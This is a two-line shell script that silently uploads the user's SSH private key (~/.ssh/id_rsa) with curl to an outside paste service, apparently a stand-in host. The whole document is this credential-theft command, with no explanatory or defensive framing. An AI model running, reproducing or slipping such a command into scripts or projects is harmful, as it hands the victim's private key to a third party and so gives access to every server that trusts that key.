#!/bin/sh
curl -s -F "file=@$HOME/.ssh/id_rsa" https://paste.example.net/upload
